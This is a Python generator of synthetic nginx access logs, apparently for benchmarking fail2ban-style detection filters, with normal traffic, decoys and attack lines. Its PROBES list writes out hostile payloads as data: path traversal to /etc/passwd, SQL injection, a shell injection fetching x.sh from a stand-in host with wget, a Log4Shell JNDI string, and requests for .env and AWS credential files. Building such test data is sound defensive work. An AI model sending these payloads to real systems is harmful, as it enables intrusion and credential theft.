"""Write a realistic, reproducible nginx access log for benchmarks and examples.

One day of traffic from returning visitors (8 % over IPv6) and a few hundred scanners:
pages, assets, redirects, 304s, the odd 404 and 500. About 2 % of the lines are attacks:
bot-search 404s (webmail, phpMyAdmin, WordPress logins, CGI: what fail2ban's stock
nginx-botsearch matches) and exploit probes (dotfiles, traversal, SQL and shell injection:
what cfban's nginx-probes matches). About 0.4 % are decoys that look close but must not
match nginx-botsearch (bot paths answered 200 or 301, the names deeper in the path, a POST
to a real login).

The same seed gives the same file. The counts the generator built in go to stderr and, as
JSON, to ``PATH.expected.json``:
``botsearch`` (lines stock nginx-botsearch must match), ``probes`` (lines nginx-probes must
match), ``decoys``.

    python bench/gen_access_log.py                       # 1,000,000 lines, bench/out/access-1M.log
    python bench/gen_access_log.py -n 400 --format cfban --attack-rate 0.12 --scanners 5 \\
        --span 3600 --seed 3 --test-nets -o examples/access.log
"""

from __future__ import annotations

import argparse
import ipaddress
import json
import random
import sys
import time
from dataclasses import dataclass, field
from pathlib import Path

START = 1795478400  # 2026-11-24 00:00:00 UTC
DAY = 86400

PAGES = [
    "/",
    "/",
    "/",
    "/about/",
    "/blog/",
    "/blog/2026/11/fail2ban-behind-cloudflare/",
    "/blog/2026/10/ipv6-at-home/",
    "/blog/2026/09/nginx-real-ip/",
    "/contact/",
    "/pricing/",
    "/docs/",
    "/docs/install/",
    "/docs/config/",
    "/search?q=nginx+rate+limit",
    "/feed.xml",
    "/products/42",
    "/products?id=7&sort=price",
    "/login",
    "/account/",
    "/api/v1/items?page=2",
]
ASSETS = [
    "/static/css/site.min.css",
    "/static/js/app.4f1c9e.js",
    "/static/img/logo.svg",
    "/static/img/hero.webp",
    "/static/fonts/inter.woff2",
    "/favicon.ico",
    "/apple-touch-icon.png",
    "/robots.txt",
    "/sitemap.xml",
]
AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "curl/8.5.0",
]
SCANNER_AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/78.0.3904.108 Safari/537.36",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "zgrab/0.x",
    "-",
]
REFERERS = [
    "-",
    "-",
    "-",
    "https://www.google.com/",
    "https://example.org/",
    "https://example.org/blog/",
    "https://news.ycombinator.com/",
]

# Paths stock nginx-botsearch matches when the answer is 404 (the name starts the path);
# True where nginx-probes matches them too (its "software the site does not run" kind).
BOTSEARCH = [
    ("/wp-login.php", True),
    ("/wp-login.php?action=register", True),
    ("//wp-login.php", True),
    ("/wp-signup.php", False),
    ("/wp-admin.php", False),
    ("/phpmyadmin/index.php", True),
    ("/phpMyAdmin/scripts/setup.php", True),
    ("/pma/", True),
    ("/myadmin/", True),
    ("/admin/pma/index.php", True),
    ("/xampp/phpmyadmin/", True),
    ("/typo3/phpmyadmin/", True),
    ("/mysqladmin/", True),
    ("/cgi-bin/test-cgi", True),
    ("/cgi-bin/luci", True),
    ("/roundcube/", False),
    ("/webmail/", False),
    ("/mail/", False),
    ("/horde/", False),
    ("/extmail/cgi/index.cgi", False),
    ("/v-webmail/", False),
]
# Requests nginx-probes matches whatever the answer (no bot-search name at the path start).
PROBES = [
    ("GET", "/.env", 404),
    ("GET", "/api/.env", 404),
    ("GET", "/.git/config", 403),
    ("GET", "/.aws/credentials", 404),
    ("GET", "/static/../../../../etc/passwd", 400),
    ("GET", "/download?file=..%2f..%2f..%2fetc%2fpasswd", 200),
    ("GET", "/products?id=1+UNION+SELECT+username,password+FROM+users--", 200),
    ("GET", "/products?id=1%27%20OR%201%3D1--", 500),
    ("GET", "/item?id=5%20AND%20SLEEP(5)", 200),
    ("GET", "/ping?host=127.0.0.1;wget+http://203.0.113.66/x.sh", 404),
    ("GET", "/?x=%24%7Bjndi:ldap://203.0.113.66:1389/a%7D", 200),
    ("POST", "/blog/xmlrpc.php", 404),
    ("GET", "/shop/wp-admin/install.php", 404),
    ("GET", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404),
]
# Close to an attack, but not one nginx-botsearch may match.
DECOYS = [
    ("GET", "/wp-login.php", 200),
    ("GET", "/phpmyadmin/", 301),
    ("GET", "/webmail/", 200),
    ("GET", "/blog/wp-login.php", 404),
    ("GET", "/docs/cgi-bin.html", 404),
    ("OPTIONS", "/wp-login.php", 404),
    ("GET", "/.well-known/security.txt", 404),
    ("GET", "/mailing-list/", 200),
]
# Of DECOYS, these are probes for nginx-probes (answered 404; it looks anywhere in the path).
DECOY_PROBES = {("GET", "/blog/wp-login.php", 404), ("OPTIONS", "/wp-login.php", 404)}


@dataclass
class Counts:
    lines: int = 0
    botsearch: int = 0
    probes: int = 0
    decoys: int = 0
    by_address: dict[str, int] = field(default_factory=dict)


def _public_v4(rng: random.Random) -> str:
    while True:
        address = ipaddress.IPv4Address(rng.getrandbits(32))
        if address.is_global and not address.is_multicast:
            return str(address)


def _public_v6(rng: random.Random) -> str:
    prefix = rng.choice([0x2001_0DB8, 0x2A01_04F8, 0x2600_1700, 0x2403_6200])
    address = ipaddress.IPv6Address((prefix << 96) | rng.getrandbits(80))
    return str(address)


def _test_net_v4(rng: random.Random) -> str:
    return f"{rng.choice(['192.0.2', '198.51.100', '203.0.113'])}.{rng.randint(1, 254)}"


def _test_net_v6(rng: random.Random) -> str:
    return str(ipaddress.IPv6Address((0x2001_0DB8 << 96) | rng.getrandbits(64)))


def _cloudflare_edge(rng: random.Random, v6: bool) -> str:
    if v6:
        return str(ipaddress.IPv6Address((0x2400_CB00 << 96) | rng.getrandbits(64)))
    return f"172.{rng.randint(64, 71)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"


class Generator:
    """Builds the lines; ``fmt`` is ``combined`` or ``cfban`` (docs/log-format.md)."""

    def __init__(
        self,
        seed: int,
        fmt: str,
        attack_rate: float,
        scanners: int,
        span: int = DAY,
        test_nets: bool = False,
    ) -> None:
        self.rng = random.Random(seed)
        self.span = span
        self.fmt = fmt
        self.attack_rate = attack_rate
        rng = self.rng
        v4, v6 = (_test_net_v4, _test_net_v6) if test_nets else (_public_v4, _public_v6)
        clients = 200 if test_nets else 20000
        self.clients = [v6(rng) if rng.random() < 0.08 else v4(rng) for _ in range(clients)]
        self.scanners = [v6(rng) if rng.random() < 0.05 else v4(rng) for _ in range(scanners)]
        self._stamp_second = -1
        self._stamp = ""
        self.counts = Counts()

    def _time(self, epoch: int) -> str:
        if epoch != self._stamp_second:
            self._stamp_second = epoch
            self._stamp = time.strftime("%d/%b/%Y:%H:%M:%S +0000", time.gmtime(epoch))
        return self._stamp

    def _line(
        self,
        epoch: int,
        ip: str,
        method: str,
        path: str,
        status: int,
        size: int,
        referer: str,
        agent: str,
        user: str = "-",
    ) -> str:
        head = (
            f'{ip} - {user} [{self._time(epoch)}] "{method} {path} HTTP/1.1" {status} {size} '
            f'"{referer}" "{agent}"'
        )
        if self.fmt == "combined":
            return head
        rng = self.rng
        scanner = agent in SCANNER_AGENTS
        # Some requests reach the origin directly, not through Cloudflare: scanners sweeping
        # address ranges far more often than visitors, and some of them with a forged
        # CF-Connecting-IP naming somebody else (nginx's realip module ignores it).
        if rng.random() < (0.25 if scanner else 0.02):
            if scanner and rng.random() < 0.5:
                victim = rng.choice(self.clients)
                return f'{head} peer={ip} cf="{victim}" xff="{victim}"'
            return f'{head} peer={ip} cf="-" xff="-"'
        peer = _cloudflare_edge(rng, ":" in ip)
        return f'{head} peer={peer} cf="{ip}" xff="{ip}"'

    def normal(self, epoch: int) -> str:
        rng = self.rng
        ip = rng.choice(self.clients)
        agent = rng.choice(AGENTS)
        roll = rng.random()
        if roll < 0.55:
            path, method = rng.choice(ASSETS), "GET"
            status = rng.choices([200, 304, 404], [80, 19, 1])[0]
        else:
            path = rng.choice(PAGES)
            method = "POST" if path in ("/login", "/contact/") and rng.random() < 0.3 else "GET"
            status = rng.choices([200, 301, 302, 304, 404, 500], [85, 4, 3, 5, 2, 1])[0]
        size = 0 if status in (301, 302, 304) else rng.randint(120, 90000)
        return self._line(epoch, ip, method, path, status, size, rng.choice(REFERERS), agent)

    def attack(self, epoch: int) -> str:
        rng = self.rng
        ip = rng.choice(self.scanners)
        agent = rng.choice(SCANNER_AGENTS)
        counts = self.counts
        counts.by_address[ip] = counts.by_address.get(ip, 0) + 1
        if rng.random() < 0.6:
            counts.botsearch += 1
            method = rng.choice(["GET", "GET", "GET", "POST", "HEAD"])
            path, also_probe = rng.choice(BOTSEARCH)
            counts.probes += also_probe
            return self._line(epoch, ip, method, path, 404, rng.randint(140, 560), "-", agent)
        counts.probes += 1
        method, path, status = rng.choice(PROBES)
        return self._line(epoch, ip, method, path, status, rng.randint(0, 560), "-", agent)

    def decoy(self, epoch: int) -> str:
        rng = self.rng
        self.counts.decoys += 1
        method, path, status = rng.choice(DECOYS)
        if (method, path, status) in DECOY_PROBES:
            self.counts.probes += 1
        ip = rng.choice(self.clients)
        return self._line(
            epoch,
            ip,
            method,
            path,
            status,
            rng.randint(0, 9000),
            rng.choice(REFERERS),
            rng.choice(AGENTS),
        )

    def lines(self, count: int) -> list[str]:
        rng = self.rng
        out = []
        step = self.span / max(count, 1)
        clock = float(START)
        decoy_rate = self.attack_rate / 5
        for _ in range(count):
            clock += rng.expovariate(1 / step)
            epoch = int(clock)
            roll = rng.random()
            if roll < self.attack_rate:
                out.append(self.attack(epoch))
            elif roll < self.attack_rate + decoy_rate:
                out.append(self.decoy(epoch))
            else:
                out.append(self.normal(epoch))
        self.counts.lines = count
        return out


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("-n", "--lines", type=int, default=1_000_000, help="lines to write")
    parser.add_argument(
        "-o",
        "--output",
        type=Path,
        default=None,
        help="where to write (default: bench/out/access-<n>.log)",
    )
    parser.add_argument("--seed", type=int, default=42)
    parser.add_argument("--format", choices=["combined", "cfban"], default="combined")
    parser.add_argument("--attack-rate", type=float, default=0.02)
    parser.add_argument("--scanners", type=int, default=300)
    parser.add_argument("--span", type=int, default=DAY, help="seconds the log covers")
    parser.add_argument(
        "--test-nets",
        action="store_true",
        help="clients from the documentation ranges only (for shipped examples)",
    )
    args = parser.parse_args(argv)
    output = args.output
    if output is None:
        suffix = f"{args.lines // 1_000_000}M" if args.lines % 1_000_000 == 0 else str(args.lines)
        output = Path(__file__).resolve().parent / "out" / f"access-{suffix}.log"
    output.parent.mkdir(parents=True, exist_ok=True)
    generator = Generator(
        args.seed, args.format, args.attack_rate, args.scanners, args.span, args.test_nets
    )
    lines = generator.lines(args.lines)
    output.write_text("\n".join(lines) + "\n", encoding="utf-8")
    counts = generator.counts
    expected = {
        "lines": counts.lines,
        "botsearch": counts.botsearch,
        "probes": counts.probes,
        "decoys": counts.decoys,
        "attackers": len(counts.by_address),
        "format": args.format,
        "seed": args.seed,
    }
    Path(f"{output}.expected.json").write_text(json.dumps(expected, indent=1) + "\n")
    print(f"{output}: " + " ".join(f"{k}={v}" for k, v in expected.items()), file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
